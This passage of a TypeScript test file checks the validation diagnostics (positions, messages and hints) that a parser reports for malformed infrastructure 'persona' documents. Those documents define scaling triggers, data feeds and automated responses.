/**
 * Bad persona documents: every problem is one diagnostic with an exact message, a 1-based
 * line:column pointing at the offending text, and a hint that says what to do next. All problems of
 * a document are reported at once, sorted by position, and `parsePersona` throws only
 * `PersonaValidationError`.
 */
import { describe, expect, it } from "vitest";
import { type Diagnostic, formatDiagnostic, SourceMap } from "../../src/pdl/diagnostics.js";
import { PersonaValidationError } from "../../src/pdl/errors.js";
import { parsePersona, validatePersonaText } from "../../src/pdl/parse.js";

/** A document from its lines (keeps YAML indentation readable in the table). */
function doc(...lines: string[]): string {
  return lines.join("\n");
}

/** What a user sees of a diagnostic: severity (when not an error), position, code, message, hint. */
interface Seen {
  severity?: "warning";
  at: string;
  code: string;
  message: string;
  hint?: string;
}

function seen(diagnostic: Diagnostic): Seen {
  const out: Seen = {
    at: `${diagnostic.line}:${diagnostic.column}`,
    code: diagnostic.code,
    message: diagnostic.message,
  };
  if (diagnostic.severity === "warning") out.severity = "warning";
  if (diagnostic.hint !== undefined) out.hint = diagnostic.hint;
  return out;
}

const ACCEPTED_ACTION_FORMS =
  "Scale up to <N> cores | Scale up to <N> GB memory | Scale to <size> | Scale back to baseline | Activate <feature> | Enable <feature> | Deactivate <feature> | Disable <feature> | Update firewall rules to block malicious IPs | Block listed addresses | Allow listed addresses | Shift persona to <Name> | Shift back to previous persona | Notify <channel> | Notify <channel>: <message> | Run command `<shell command>` | Invoke function <name> | Drain traffic | Redirect traffic away | Redirect traffic to <target> | Restore traffic | Isolate instance | Release isolation";
const TOP_LEVEL_KEYS =
  "Name, Version, Description, Extends, BaseConfiguration, SoftwareStack, Features, TelemetryTriggers, ExternalDataSources, AutomatedResponses, Bounds";
const YAML_HINT = "check indentation, colons after keys, and quotes around text containing ': ' or '#'";
const NOT_A_PERSONA_HINT = "start with sections such as 'BaseConfiguration:' and 'TelemetryTriggers:'";

const INVALID: { title: string; text: string; diagnostics: Seen[] }[] = [
  {
    title: "an unknown section, with the nearest section name",
    text: doc(
      "Name: Web",
      "TelemetryTrigger:",
      "  - Condition: CPU Load > 80%",
      "    Action: Scale up to 4 cores",
    ),
    diagnostics: [
      {
        at: "2:1",
        code: "unknown-key",
        message: "unknown key 'TelemetryTrigger'",
        hint: `did you mean 'TelemetryTriggers'? allowed keys: ${TOP_LEVEL_KEYS}`,
      },
    ],
  },
  {
    title: "an unknown key in BaseConfiguration, with the nearest key",
    text: doc("Name: Web", "BaseConfiguration:", "  CPUs: 2 cores"),
    diagnostics: [
      {
        at: "3:3",
        code: "unknown-key",
        message: "unknown key 'CPUs' in 'BaseConfiguration'",
        hint: "did you mean 'CPU'? allowed keys: CPU, Memory, NetworkBandwidth, Family, Architecture, Size",
      },
    ],
  },
  {
    title: "two unknown keys, each at its own position",
    text: doc("Name: Web", "BaseConfiguration:", "  CPUs: 2", "  Mem: 4 GB"),
    diagnostics: [
      {
        at: "3:3",
        code: "unknown-key",
        message: "unknown key 'CPUs' in 'BaseConfiguration'",
        hint: "did you mean 'CPU'? allowed keys: CPU, Memory, NetworkBandwidth, Family, Architecture, Size",
      },
      {
        at: "4:3",
        code: "unknown-key",
        message: "unknown key 'Mem' in 'BaseConfiguration'",
        hint: "allowed keys: CPU, Memory, NetworkBandwidth, Family, Architecture, Size",
      },
    ],
  },
  {
    title: "an unknown key in a trigger",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80%",
      "    Actoin: Scale up to 4 cores",
    ),
    diagnostics: [
      {
        at: "4:5",
        code: "unknown-key",
        message: "unknown key 'Actoin' in 'TelemetryTriggers[0]'",
        hint: "did you mean 'Action'? allowed keys: Name, Condition, Action, Response, Cooldown, Clear, ClearAction, MissingData",
      },
    ],
  },
  {
    title: "an unknown key in a structured condition",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      '  - Condition: { metric: cpu, operator: ">", threshold: 80, window: 5m }',
      "    Action: Scale up to 4 cores",
    ),
    diagnostics: [
      {
        at: "3:61",
        code: "unknown-key",
        message: "unknown key 'window' in 'TelemetryTriggers[0].Condition'",
        hint: "allowed keys: Metric, Operator, Threshold, For, DatapointsToAlarm",
      },
    ],
  },
  {
    title: "a known key in the wrong section, shown as written",
    text: doc("Name: Web", "Bounds:", "  CPU: 32"),
    diagnostics: [
      {
        at: "3:3",
        code: "unknown-key",
        message: "unknown key 'CPU' in 'Bounds'",
        hint: "allowed keys: MaxCPU, MaxMemory, MaxSize, MaxActionsPerHour",
      },
    ],
  },
  {
    title: "memory given in cores",
    text: doc("Name: Web", "BaseConfiguration:", "  Memory: 32 cores"),
    diagnostics: [
      {
        at: "3:11",
        code: "invalid-quantity",
        message: "expected a memory size, received '32 cores' ('cores' measures vCPUs)",
        hint: "use one of: GB, GiB, MB, MiB, TB, TiB",
      },
    ],
  },
  {
    title: "a CPU threshold given in milliseconds",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 100ms",
      "    Action: Scale up to 16 cores",
    ),
    diagnostics: [
      {
        at: "3:16",
        code: "invalid-condition",
        message: "CPU utilization: expected a percentage, received '100ms' ('ms' measures times)",
        hint: "use one of: %",
      },
    ],
  },
  {
    title: "a latency threshold without a unit",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: Network Latency > 100",
      "    Action: Notify ops-team",
    ),
    diagnostics: [
      {
        at: "3:16",
        code: "invalid-condition",
        message: "the threshold '100' for Network latency needs a unit",
        hint: "write it with ms, e.g. '100ms'",
      },
    ],
  },
  {
    title: "bandwidth in an unknown unit",
    text: doc("Name: Web", "BaseConfiguration:", "  NetworkBandwidth: 10 furlongs"),
    diagnostics: [
      {
        at: "3:21",
        code: "invalid-quantity",
        message: "expected a bandwidth, received '10 furlongs' (unknown unit 'furlongs')",
        hint: "use one of: Gbps, Mbps, Kbps",
      },
    ],
  },
  {
    title: "zero cores",
    text: doc("Name: Web", "BaseConfiguration:", "  CPU: 0 cores"),
    diagnostics: [
      {
        at: "3:8",
        code: "invalid-cpu",
        message: "CPU '0 cores' must be a whole number of cores from 1 to 448",
        hint: "write e.g. '8 cores'",
      },
    ],
  },
  {
    title: "a fraction of a core",
    text: doc("Name: Web", "BaseConfiguration:", "  CPU: 2.5 cores"),
    diagnostics: [
      {
        at: "3:8",
        code: "invalid-cpu",
        message: "CPU '2.5 cores' must be a whole number of cores from 1 to 448",
        hint: "write e.g. '8 cores'",
      },
    ],
  },
  {
    title: "zero memory",
    text: doc("Name: Web", "BaseConfiguration:", "  Memory: 0 GB"),
    diagnostics: [
      {
        at: "3:11",
        code: "invalid-memory",
        message: "Memory '0 GB' must be above 0 and at most 24576 GB",
        hint: "write e.g. '32 GB'",
      },
    ],
  },
  {
    title: "more bandwidth than any instance has",
    text: doc("Name: Web", "BaseConfiguration:", "  NetworkBandwidth: 500 Gbps"),
    diagnostics: [
      {
        at: "3:21",
        code: "invalid-bandwidth",
        message: "NetworkBandwidth '500 Gbps' must be above 0 and at most 400 Gbps",
        hint: "write e.g. '10 Gbps'",
      },
    ],
  },
  {
    title: "a percentage above 100",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 120%",
      "    Action: Scale up to 16 cores",
    ),
    diagnostics: [
      {
        at: "3:16",
        code: "invalid-condition",
        message: "CPU utilization threshold 120% is outside 0%–100%",
        hint: "choose a threshold between 0% and 100%",
      },
    ],
  },
  {
    title: "a 'for' window longer than a day",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80% for 25 hours",
      "    Action: Scale up to 16 cores",
    ),
    diagnostics: [
      {
        at: "3:16",
        code: "invalid-condition",
        message: "the window 'for 25 hours' is longer than a day",
        hint: "CloudWatch evaluates at most one day of datapoints; use 24 hours or less",
      },
    ],
  },
  {
    title: "6 of 5 datapoints",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80% for 6 of 5 minutes",
      "    Action: Scale up to 16 cores",
    ),
    diagnostics: [
      {
        at: "3:16",
        code: "invalid-condition",
        message: "'6 of 5' needs between 1 and 5 breaching datapoints",
        hint: "write 'for <M> of 5 ...' with M from 1 to 5",
      },
    ],
  },
  {
    title: "a zero-length window",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80% for 0 minutes",
      "    Action: Notify ops-team",
    ),
    diagnostics: [
      {
        at: "3:16",
        code: "invalid-condition",
        message: "the window 'for 0 minutes' must be longer than zero",
        hint: "use at least 10 seconds",
      },
    ],
  },
  {
    title: "a window that is not whole periods",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80% for 450s",
      "    Action: Notify ops-team",
    ),
    diagnostics: [
      {
        at: "3:16",
        code: "invalid-condition",
        message: "the window 'for 450s' is not a whole number of periods",
        hint: "use whole minutes (e.g. 'for 5 minutes'), or a multiple of 10 seconds under 5 minutes",
      },
    ],
  },
  {
    title: "an unreadable window",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80% for a while",
      "    Action: Notify ops-team",
    ),
    diagnostics: [
      {
        at: "3:16",
        code: "invalid-condition",
        message: "cannot read the window 'for a while'",
        hint: "write 'for <duration>' (e.g. 'for 5 minutes') or 'for <M> of <N> minutes'",
      },
    ],
  },
  {
    title: "an unknown metric, with the nearest metric",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: CPU Lod > 80%",
      "    Action: Scale up to 16 cores",
    ),
    diagnostics: [
      {
        at: "3:16",
        code: "invalid-condition",
        message: "unknown metric 'CPU Lod'",
        hint: "did you mean 'cpu load'? known metrics: CPU Load, Memory, Disk, Network Latency, Network In, Network Out, Error Rate, Request Count",
      },
    ],
  },
  {
    title: "an unreadable condition",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: when it is busy",
      "    Action: Notify ops-team",
    ),
    diagnostics: [
      {
        at: "3:16",
        code: "invalid-condition",
        message: "cannot read condition 'when it is busy'",
        hint: "write it as <metric> <op> <value><unit> [for <duration> | for <M> of <N> minutes], e.g. 'CPU Load > 80% for 5 minutes'",
      },
    ],
  },
  {
    title: "an unknown operator in a structured condition",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      '  - Condition: { metric: cpu, operator: "!=", threshold: 80 }',
      "    Action: Scale up to 4 cores",
    ),
    diagnostics: [
      {
        at: "3:16",
        code: "invalid-condition",
        message: "unknown operator '!='",
        hint: "use one of >, >=, <, <=, above, below",
      },
    ],
  },
  {
    title: "a trigger without a condition",
    text: doc("Name: Web", "TelemetryTriggers:", "  - Action: Scale up to 4 cores"),
    diagnostics: [
      {
        at: "3:5",
        code: "missing-key",
        message: "missing required key 'Condition' in 'TelemetryTriggers[0]'",
        hint: "add 'Condition: ...'",
      },
    ],
  },
  {
    title: "an unknown action, with the repaired phrase and every accepted form",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80%",
      "    Action: Scale upp to 16 cores",
    ),
    diagnostics: [
      {
        at: "4:13",
        code: "unknown-action",
        message: "unknown action 'Scale upp to 16 cores'",
        hint: `did you mean 'Scale up to 16 cores'? accepted forms: ${ACCEPTED_ACTION_FORMS}`,
      },
    ],
  },
  {
    title: "scaling to 0 cores",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80%",
      "    Action: Scale up to 0 cores",
    ),
    diagnostics: [
      {
        at: "4:13",
        code: "unknown-action",
        message: "cannot scale to 0 cores",
        hint: "use a whole number of cores from 1 to 448",
      },
    ],
  },
  {
    title: "a structured action of an unknown kind",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80%",
      "    Action: { kind: scael, cpu: 4 }",
    ),
    diagnostics: [
      {
        at: "4:21",
        code: "invalid-value",
        message:
          "'TelemetryTriggers[0].Action.Kind': expected one of 'scale', 'activate-feature', 'deactivate-feature', 'firewall', 'shift-persona', 'notify', 'run-command', 'invoke-function', 'drain-traffic', 'restore-traffic', 'isolate-instance', 'release-isolation', received the text 'scael'",
        hint: "did you mean 'scale'?",
      },
    ],
  },
  {
    title: "a structured scale action with two targets",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80%",
      "    Action: { kind: scale, cpu: 4, memoryGiB: 8 }",
    ),
    diagnostics: [
      {
        at: "4:13",
        code: "custom",
        message:
          "'TelemetryTriggers[0].Action': a scale action needs exactly one target: cpu, memoryGiB, size or baseline",
      },
    ],
  },
  {
    title: "a structured scale action to 0 cores",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80%",
      "    Action: { kind: scale, cpu: 0 }",
    ),
    diagnostics: [
      {
        at: "4:33",
        code: "too-small",
        message: "'TelemetryTriggers[0].Action.CPU': Too small: expected number to be >=1",
      },
    ],
  },
  {
    title: "a firewall action on a telemetry trigger",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80%",
      "    Action: Update firewall rules to block malicious IPs",
    ),
    diagnostics: [
      {
        at: "4:13",
        code: "action-not-allowed",
        message: "'Update firewall rules to block listed addresses' cannot be used by a telemetry trigger",
        hint: "firewall actions follow a list feed: put it on an ExternalDataSources entry with a list URL",
      },
    ],
  },
  {
    title: "a firewall action on a value source",
    text: doc(
      "Name: Web",
      "ExternalDataSources:",
      "  - URL: https://api.example.com/level",
      "    Frequency: 5 minutes",
      "    Condition: $.threat.level >= 4",
      "    Action: Block listed addresses",
    ),
    diagnostics: [
      {
        at: "6:13",
        code: "action-not-allowed",
        message: "'Update firewall rules to block listed addresses' cannot be used by a value source",
        hint: "firewall actions follow a list feed: put it on an ExternalDataSources entry with a list URL",
      },
    ],
  },
  {
    title: "a scale action on a list feed",
    text: doc(
      "Name: Web",
      "ExternalDataSources:",
      "  - URL: https://feeds.example.com/drop.txt",
      "    Frequency: 5 minutes",
      "    Action: Scale up to 4 cores",
    ),
    diagnostics: [
      {
        at: "5:13",
        code: "action-not-allowed",
        message: "'Scale up to 4 cores' cannot be used by a list feed",
        hint: "accepted here: Update firewall rules to block malicious IPs | Block listed addresses | Allow listed addresses | Notify <channel> | Notify <channel>: <message> | Run command `<shell command>` | Invoke function <name>",
      },
    ],
  },
  {
    title: "two triggers with the same name",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Name: hot",
      "    Condition: CPU Load > 80%",
      "    Action: Scale up to 16 cores",
      "  - Name: Hot",
      "    Condition: CPU Load > 90%",
      "    Action: Scale up to 32 cores",
    ),
    diagnostics: [
      {
        at: "6:11",
        code: "duplicate-name",
        message: "the name 'hot' is already used by another trigger, source or response",
        hint: "give this one a distinct Name",
      },
    ],
  },
  {
    // Unnamed triggers on one metric and direction get ordinals (test/pdl/trigger-ids.test.ts); two
    // names the author wrote the same are still a clash.
    title: "two triggers with the same Name",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80%",
      "    Name: busy",
      "    Action: Scale up to 16 cores",
      "  - Condition: CPU > 90%",
      "    Name: Busy",
      "    Action: Notify ops-team",
    ),
    diagnostics: [
      {
        at: "7:11",
        code: "duplicate-name",
        message: "the name 'busy' is already used by another trigger, source or response",
        hint: "give this one a distinct Name",
      },
    ],
  },
  {
    // The clear watcher of 'hot' is the alarm 'hot-clear' (src/plan/plan.ts): one alarm name for two alarms.
    title: "a trigger named like another trigger's clear alarm",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Name: hot",
      "    Condition: CPU Load > 80%",
      "    Action: Scale up to 16 cores",
      "    Clear: after 10 minutes",
      "  - Name: hot-clear",
      "    Condition: CPU Load > 90%",
      "    Action: Notify ops-team",
    ),
    diagnostics: [
      {
        at: "7:11",
        code: "duplicate-name",
        message: "the name 'hot-clear' is taken by the clear alarm of trigger 'hot'",
        hint: "give this trigger a name that does not end in '-clear'",
      },
    ],
  },
  {
    title: "a trigger named like a response",
    text: doc(
      "Name: Web",
      "AutomatedResponses:",
      "  - Name: grow",
      "    Action: Scale up to 16 cores",
      "TelemetryTriggers:",
      "  - Name: grow",
      "    Condition: CPU Load > 80%",
      "    Action: Scale up to 8 cores",
    ),
    diagnostics: [
      {
        severity: "warning",
        at: "3:5",
        code: "unused-response",
        message: "response 'grow' is never used",
        hint: "refer to it with 'Response: <name>' from a trigger or source, or remove it",
      },
      {
        at: "6:11",
        code: "duplicate-name",
        message: "the name 'grow' is already used by another trigger, source or response",
        hint: "give this one a distinct Name",
      },
    ],
  },
  {
    title: "two features with the same name",
    text: doc("Name: Web", "Features:", "  - Name: CDN caching", "  - Name: cdn-caching"),
    diagnostics: [
      {
        at: "4:11",
        code: "duplicate-feature",
        message: "feature 'cdn-caching' is declared twice",
        hint: "keep one declaration per feature",
      },
    ],
  },
  {
    title: "two responses with the same name",
    text: doc(
      "Name: Web",
      "AutomatedResponses:",
      "  - Name: grow",
      "    Action: Scale up to 16 cores",
      "  - Name: Grow",
      "    Action: Scale up to 32 cores",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80%",
      "    Response: grow",
    ),
    diagnostics: [
      {
        at: "5:11",
        code: "duplicate-response",
        message: "response 'Grow' is declared twice",
        hint: "keep one declaration per name",
      },
    ],
  },
  {
    title: "the same software twice",
    text: doc("Name: Web", "SoftwareStack:", "  - Nginx", "  - nginx 1.24"),
    diagnostics: [
      {
        at: "4:5",
        code: "duplicate-software",
        message: "software 'nginx' is listed twice",
        hint: "keep one entry per package",
      },
    ],
  },
  {
    title: "two feeds from one host without names",
    text: doc(
      "Name: Web",
      "ExternalDataSources:",
      "  - URL: https://feeds.example.com/a.txt",
      "    Frequency: 5 minutes",
      "    Action: Block listed addresses",
      "  - URL: https://feeds.example.com/b.txt",
      "    Frequency: 5 minutes",
      "    Action: Block listed addresses",
    ),
    diagnostics: [
      {
        at: "6:5",
        code: "duplicate-name",
        message: "the name 'feeds-example-com' is already used by another trigger, source or response",
        hint: "give this one a distinct Name",
      },
    ],
  },
  {
    title: "a feed over http",
    text: doc(
      "Name: Web",
      "ExternalDataSources:",
      "  - URL: http://feeds.example.com/drop.txt",
      "    Frequency: 5 minutes",
      "    Action: Block listed addresses",
    ),
    diagnostics: [
      {
        at: "3:10",
        code: "insecure-url",
        message: "feed URL 'http://feeds.example.com/drop.txt' must use https",
        hint: "use 'https://feeds.example.com/drop.txt' — feeds decide what gets blocked, so they must not be fetched in clear text",
      },
    ],
  },
  {
    title: "a feed URL without a scheme",
    text: doc(
      "Name: Web",
      "ExternalDataSources:",
      "  - URL: feeds.example.com/drop.txt",
      "    Frequency: 5 minutes",
      "    Action: Block listed addresses",
    ),
    diagnostics: [
      {
        at: "3:10",
        code: "invalid-url",
        message: "'feeds.example.com/drop.txt' is not a URL",
        hint: "write a full https URL, e.g. 'https://feeds.example.com/drop.txt'",
      },
    ],
  },
  {
    title: "a frequency under one minute",
    text: doc(
      "Name: Web",
      "ExternalDataSources:",
      "  - URL: https://feeds.example.com/drop.txt",
      "    Frequency: 30 seconds",
      "    Action: Block listed addresses",
    ),
    diagnostics: [
      {
        at: "4:16",
        code: "frequency-too-short",
        message: "Frequency '30 seconds' is under one minute",
        hint: "fetch at most once a minute, e.g. 'Frequency: 5 minutes'",
      },
    ],
  },
  {
    title: "a frequency over one day",
    text: doc(
      "Name: Web",
      "ExternalDataSources:",
      "  - URL: https://feeds.example.com/drop.txt",
      "    Frequency: 2 days",
      "    Action: Block listed addresses",
    ),
    diagnostics: [
      {
        at: "4:16",
        code: "invalid-duration",
        message: "Frequency '2 days' must be whole seconds up to 1 day",
        hint: "e.g. '5 minutes' or '1 hour'",
      },
    ],
  },
  {
    title: "a csv feed without a column",
    text: doc(
      "Name: Web",
      "ExternalDataSources:",
      "  - URL: https://feeds.example.com/drop.csv",
      "    Frequency: 5 minutes",
      "    Format: csv",
      "    Action: Block listed addresses",
    ),
    diagnostics: [
      {
        at: "3:5",
        code: "missing-column",
        message: "a csv feed needs a Column",
        hint: "add 'Column: <header name>' or 'Column: <0-based index>'",
      },
    ],
  },
  {
    title: "a json list feed without a path",
    text: doc(
      "Name: Web",
      "ExternalDataSources:",
      "  - URL: https://feeds.example.com/drop.json",
      "    Frequency: 5 minutes",
      "    Format: json",
      "    Action: Block listed addresses",
    ),
    diagnostics: [
      {
        at: "3:5",
        code: "missing-path",
        message: "a json list feed needs a Path to its entries",
        hint: "add e.g. 'Path: $.data[*].ip'",
      },
    ],
  },
  {
    title: "a json list path not starting at $",
    text: doc(
      "Name: Web",
      "ExternalDataSources:",
      "  - URL: https://feeds.example.com/drop.json",
      "    Frequency: 5 minutes",
      "    Format: json",
      "    Path: data.ip",
      "    Action: Block listed addresses",
    ),
    diagnostics: [
      {
        at: "6:11",
        code: "invalid-path",
        message: "Path 'data.ip' must start with '$'",
        hint: "e.g. '$.data[*].ip'",
      },
    ],
  },
  {
    title: "an unknown feed format",
    text: doc(
      "Name: Web",
      "ExternalDataSources:",
      "  - URL: https://feeds.example.com/drop.txt",
      "    Frequency: 5 minutes",
      "    Format: xml",
      "    Action: Block listed addresses",
    ),
    diagnostics: [
      {
        at: "5:13",
        code: "invalid-format",
        message: "unknown feed format 'xml'",
        hint: "formats: plain, spamhaus-drop, csv, json",
      },
    ],
  },
  {
    title: "a fetch timeout over a minute",
    text: doc(
      "Name: Web",
      "ExternalDataSources:",
      "  - URL: https://feeds.example.com/drop.txt",
      "    Frequency: 5 minutes",
      "    Timeout: 2 minutes",
      "    Action: Block listed addresses",
    ),
    diagnostics: [
      {
        at: "5:14",
        code: "invalid-duration",
        message: "Timeout '2 minutes' must be above 0 and at most 60 seconds",
        hint: "e.g. '10 seconds'",
      },
    ],
  },
  {
    title: "a body limit over 100 MB",
    text: doc(
      "Name: Web",
      "ExternalDataSources:",
      "  - URL: https://feeds.example.com/drop.txt",
      "    Frequency: 5 minutes",
      "    MaxBytes: 1 GB",
      "    Action: Block listed addresses",
    ),
    diagnostics: [
      {
        at: "5:15",
        code: "invalid-size",
        message: "MaxBytes '1 GB' must be from 1 byte to 100 MB",
        hint: "e.g. '10 MB'",
      },
    ],
  },
  {
    title: "a value source without a condition",
    text: doc(
      "Name: Web",
      "ExternalDataSources:",
      "  - URL: https://api.example.com/threat",
      "    Frequency: 5 minutes",
      "    Kind: value",
      "    Action: Notify ops-team",
    ),
    diagnostics: [
      {
        at: "3:5",
        code: "missing-condition",
        message: "a value source needs a Condition",
        hint: "add e.g. 'Condition: $.threat.level >= 4'",
      },
    ],
  },
  {
    title: "a value source with an unreadable condition",
    text: doc(
      "Name: Web",
      "ExternalDataSources:",
      "  - URL: https://api.example.com/threat",
      "    Frequency: 5 minutes",
      "    Condition: threat level is high",
      "    Action: Notify ops-team",
    ),
    diagnostics: [
      {
        at: "5:16",
        code: "invalid-condition",
        message: "cannot read value condition 'threat level is high'",
        hint: "write '<json path> <op> <number>' such as '$.threat.level >= 4', or 'value > 100' for a body that is a number",
      },
    ],
  },
  {
    title: "a value source with an unsupported JSON path",
    text: doc(
      "Name: Web",
      "ExternalDataSources:",
      "  - URL: https://api.example.com/threat",
      "    Frequency: 5 minutes",
      "    Condition: $.a..b >= 4",
      "    Action: Notify ops-team",
    ),
    diagnostics: [
      {
        at: "5:16",
        code: "invalid-condition",
        message: "unsupported JSON path '$.a..b'",
        hint: "use dotted names and [index] steps from $, e.g. '$.data.level' or '$.items[0].value'",
      },
    ],
  },
  {
    title: "a value source in csv format",
    text: doc(
      "Name: Web",
      "ExternalDataSources:",
      "  - URL: https://api.example.com/level",
      "    Frequency: 5 minutes",
      "    Condition: $.threat.level >= 4",
      "    Format: csv",
      "    Action: Notify ops-team",
    ),
    diagnostics: [
      {
        at: "6:13",
        code: "invalid-format",
        message: "value sources read 'json' or 'text', not 'csv'",
        hint: "use Format: json (with a JSON path in the Condition) or Format: text (a number)",
      },
    ],
  },
  {
    title: "a reference to an unknown response",
    text: doc(
      "Name: Web",
      "AutomatedResponses:",
      "  - Name: grow",
      "    Action: Scale up to 16 cores",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80%",
      "    Response: grwo",
    ),
    diagnostics: [
      {
        severity: "warning",
        at: "3:5",
        code: "unused-response",
        message: "response 'grow' is never used",
        hint: "refer to it with 'Response: <name>' from a trigger or source, or remove it",
      },
      {
        at: "7:15",
        code: "unknown-response",
        message: "no response named 'grwo'",
        hint: "declare it under AutomatedResponses (declared: grow)",
      },
    ],
  },
  {
    title: "both Action and Response",
    text: doc(
      "Name: Web",
      "AutomatedResponses:",
      "  - Name: grow",
      "    Action: Scale up to 16 cores",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80%",
      "    Action: Scale up to 16 cores",
      "    Response: grow",
    ),
    diagnostics: [
      {
        severity: "warning",
        at: "3:5",
        code: "unused-response",
        message: "response 'grow' is never used",
        hint: "refer to it with 'Response: <name>' from a trigger or source, or remove it",
      },
      {
        at: "6:5",
        code: "conflicting-keys",
        message: "only one of Action and Response can be specified",
        hint: "write the action inline, or name an AutomatedResponses entry",
      },
    ],
  },
  {
    title: "both Action and Actions in a response",
    text: doc(
      "Name: Web",
      "AutomatedResponses:",
      "  - Name: grow",
      "    Action: Scale up to 4 cores",
      "    Actions: [Scale up to 8 cores]",
    ),
    diagnostics: [
      {
        at: "3:5",
        code: "conflicting-keys",
        message: "only one of Action and Actions can be specified",
        hint: "use Actions for a sequence, Action for one",
      },
    ],
  },
  {
    title: "a trigger that does nothing",
    text: doc("Name: Web", "TelemetryTriggers:", "  - Condition: CPU Load > 80%"),
    diagnostics: [
      {
        at: "3:5",
        code: "missing-action",
        message: "nothing happens when this holds: there is no Action or Response",
        hint: "add 'Action: <phrase>', e.g. 'Action: Notify ops-team'",
      },
    ],
  },
  {
    title: "Clear on an action that cannot be undone",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80%",
      "    Action: Notify ops-team",
      "    Clear: after 10 minutes",
    ),
    diagnostics: [
      {
        at: "5:12",
        code: "cannot-revert",
        message: "'Notify ops-team' cannot be undone on clear",
        hint: "add 'ClearAction: <phrase>' to say what to do when the condition clears, or remove Clear",
      },
    ],
  },
  {
    title: "Clear on a value source whose action cannot be undone",
    text: doc(
      "Name: Web",
      "ExternalDataSources:",
      "  - URL: https://api.example.com/level",
      "    Frequency: 5 minutes",
      "    Condition: $.threat.level >= 4",
      "    Action: Notify ops-team",
      "    Clear: after 10 minutes",
    ),
    diagnostics: [
      {
        at: "7:12",
        code: "cannot-revert",
        message: "this source's action cannot be undone on clear",
        hint: "remove Clear, or use a revertible action (scale, features, persona shift)",
      },
    ],
  },
  {
    title: "a Clear window under one minute",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80%",
      "    Action: Scale up to 4 cores",
      "    Clear: after 30 seconds",
    ),
    diagnostics: [
      {
        at: "5:12",
        code: "invalid-duration",
        message: "Clear window '30 seconds' must be a whole number of seconds from 1 minute to 1 day",
        hint: "use a value between 1 minute and 1 day",
      },
    ],
  },
  {
    title: "ClearAction without Clear",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80%",
      "    Action: Scale up to 4 cores",
      "    ClearAction: Scale back to baseline",
    ),
    diagnostics: [
      {
        at: "5:18",
        code: "clear-action-without-clear",
        message: "ClearAction needs a Clear condition",
        hint: "add 'Clear: after 15 minutes' (or a condition)",
      },
    ],
  },
  {
    title: "a cooldown longer than a day",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80%",
      "    Action: Scale up to 4 cores",
      "    Cooldown: 2 days",
    ),
    diagnostics: [
      {
        at: "5:15",
        code: "invalid-duration",
        message: "Cooldown '2 days' must be a whole number of seconds from 0 seconds to 1 day",
        hint: "use a value between 0 seconds and 1 day",
      },
    ],
  },
  {
    title: "a scale target above the persona's bounds",
    text: doc(
      "Name: Web",
      "Bounds:",
      "  MaxCPU: 32 cores",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80%",
      "    Action: Scale up to 64 cores",
    ),
    diagnostics: [
      {
        at: "6:13",
        code: "above-bound",
        message: "'Scale up to 64 cores' is above the persona's MaxCPU of 32 cores",
        hint: "lower the target to at most 32 cores, or raise Bounds.MaxCPU",
      },
    ],
  },
  {
    title: "zero actions per hour",
    text: doc("Name: Web", "Bounds:", "  MaxActionsPerHour: 0"),
    diagnostics: [
      {
        at: "3:22",
        code: "invalid-rate",
        message: "MaxActionsPerHour 0 must be from 1 to 3600",
        hint: "a small number such as 6 keeps a flapping trigger from thrashing the instance",
      },
    ],
  },
  {
    title: "a persona shifting to itself",
    text: doc(
      "Name: Web",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80%",
      "    Action: Shift persona to Web",
    ),
    diagnostics: [
      {
        at: "4:13",
        code: "shift-to-self",
        message: "'Shift persona to Web' shifts the persona to itself",
        hint: "name a different persona",
      },
    ],
  },
  {
    title: "a misspelt declared feature",
    text: doc(
      "Name: Web",
      "Features:",
      "  - Name: CDN caching",
      "TelemetryTriggers:",
      "  - Condition: CPU Load > 80%",
      "    Action: Activate CDN cashing",
    ),
    diagnostics: [
      {
        at: "6:13",
        code: "unknown-feature",
        message: "feature 'cdn-cashing' is not declared",
        hint: "did you mean 'cdn-caching'? declared features: cdn-caching",
      },
    ],
  },
  {
    title: "an unreadable software entry",
    text: doc("Name: Web", "SoftwareStack:", '  - "!!!"'),
    diagnostics: [
      {
        at: "3:5",
        code: "invalid-software",
        message: "cannot read software entry '!!!'",
        hint: "write '<Name>', '<Name> <version>' or '<Name> (<note>)', e.g. 'Nginx (latest version)'",
